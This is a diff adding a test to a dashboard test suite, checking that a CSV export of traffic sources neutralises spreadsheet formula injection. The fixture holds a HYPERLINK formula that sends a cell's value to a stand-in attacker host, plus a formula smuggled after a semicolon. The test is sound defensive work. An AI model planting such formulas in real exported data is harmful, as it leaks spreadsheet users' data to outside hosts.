@@ -1,5 +1,7 @@
 """The numbers of the dashboards for each site and source, and as a file."""
 
+import csv
+import io
 from datetime import UTC, datetime, time, timedelta
 from typing import Any
 from uuid import uuid4
@@ -109,6 +111,22 @@ def test_a_rate_is_split_over_the_days_on_which_it_is_known(
     assert split(Role.ADMIN, "billing.converted") == {"gazette": (1, 2), "radio": (0, 1)}
     assert split(Role.ADMIN, "accounts.signups") == {"gazette": (1, None)}
     assert split(Role.MODERATOR, "billing.converted") == {}
+
+
+@pytest.mark.spec("10.4")
+def test_a_source_that_strangers_chose_is_no_formula_in_the_table(
+    db: Any, make_member: Any, colleague: Any, staff_browser: Browser, site: Any
+) -> None:
+    chosen = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "x;=1+1")
+    make_known(db, *chosen)
+    for network in chosen:
+        make_member(traffic_source=TrafficSource(network=network))
+    numbers(db, site)
+    table = staff_browser(colleague(Role.ADMIN)).get(path("figures.csv", site_id=site.id)).data.decode("utf-8-sig")
+    for delimiter in ",;":
+        cells = {cell for row in csv.reader(io.StringIO(table), delimiter=delimiter) for cell in row}
+        assert [cell for cell in cells if cell.startswith("=")] == []
+    assert {row["source"] for row in csv.DictReader(io.StringIO(table))} == {f"'{chosen[0]}", "x;'=1+1"}
 
 
 @pytest.mark.spec("10.4")
